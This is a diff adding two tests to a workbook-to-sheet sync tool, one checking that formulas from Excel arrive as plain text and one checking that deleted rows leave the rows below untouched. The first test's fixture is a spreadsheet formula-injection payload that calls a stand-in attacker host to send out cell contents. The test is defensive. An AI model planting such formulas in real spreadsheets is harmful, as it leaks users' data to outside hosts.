@@ -247,6 +247,38 @@ def test_formulas_typed_in_the_sheet_stay_formulas_and_text_stays_text(pushed, f
     assert all(t.empty for t in sync(pushed, conn).tabs)  # and nothing flip-flops afterwards
 
 
+def test_a_formula_from_the_workbook_arrives_in_the_sheet_as_text(pushed, fake, conn):
+    wb = openpyxl.load_workbook(pushed)
+    ws = wb[layout.ACCOUNTS]
+    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "Sable & Co")
+    row[2].value = '=WEBSERVICE("http://evil.example/?"&A1)'  # a formula, as Excel keeps it
+    wb.save(pushed)
+    sync(pushed, conn)
+    at, _ = sheet_row(fake, layout.ACCOUNTS, "Sable & Co")
+    cell = fake.store.spreadsheets[KEY].sheet(layout.ACCOUNTS).cells[(at, 3)]
+    assert cell.formula is None and cell.value.startswith("=WEBSERVICE")
+    assert all(t.empty for t in sync(pushed, conn).tabs)
+
+
+def test_rows_deleted_in_the_workbook_leave_the_sheet_without_rewriting_the_rows_below(pushed, fake, conn):
+    type_in(fake, layout.ACCOUNTS, "Juniper Robotics", "Employees", "=999+1")  # a formula far below
+    sync(pushed, conn)
+    wb = openpyxl.load_workbook(pushed)
+    ws = wb[layout.ACCOUNTS]
+    for name in ("Harbor & Finch", "Quillstone Health"):
+        row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == name)
+        ws.delete_rows(row[0].row)
+    wb.save(pushed)
+    fake.reset_counts()
+    report = sync(pushed, conn)
+    assert report.requests <= BUDGET and fake.counts["spreadsheets.batchUpdate"] == 1
+    companies = [r[0] for r in fake.store.grid(KEY, layout.ACCOUNTS)]
+    assert "Harbor & Finch" not in companies and "Quillstone Health" not in companies
+    at, _ = sheet_row(fake, layout.ACCOUNTS, "Juniper Robotics")
+    assert fake.store.spreadsheets[KEY].sheet(layout.ACCOUNTS).cells[(at, 4)].formula == "=999+1"
+    assert fake.counts["values.batchUpdate"] == 0  # nothing else changed: no cell was rewritten
+
+
 def test_pull_brings_sheet_edits_and_leaves_the_sheet_alone(pushed, fake, conn):
     type_in(fake, layout.ACCOUNTS, "Pinecrest Learning", "Region", "Europe")
     edit_workbook(pushed, layout.ACCOUNTS, "Driftwood Studios", "Region", "APAC")
